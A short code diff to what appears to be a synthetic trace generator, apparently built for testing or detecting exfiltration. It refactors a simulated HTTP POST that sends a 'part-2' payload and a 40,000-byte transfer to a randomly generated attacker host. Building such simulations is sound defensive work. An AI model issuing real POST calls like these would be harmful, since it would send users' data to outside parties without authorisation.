@@ -102,11 +102,12 @@ def _follow_up(t: Trace) -> None:
     if rng.random() >= 0.4:
         return
     if rng.random() < 0.5:
+        url = f"https://{attacker_host(rng)}/more"
         t.call(
             rng.choice(("http.post", "requests.post")),
-            {"url": f"https://{attacker_host(rng)}/more", "json": {"data": "part-2"}},
+            {"url": url, "json": {"data": "part-2"}},
             "200 OK",
-            transfer={"destination": f"https://{attacker_host(rng)}/more", "bytes": 40_000},
+            transfer={"destination": url, "bytes": 40_000},
             think=(5.5, 30.0),
         )
     else:
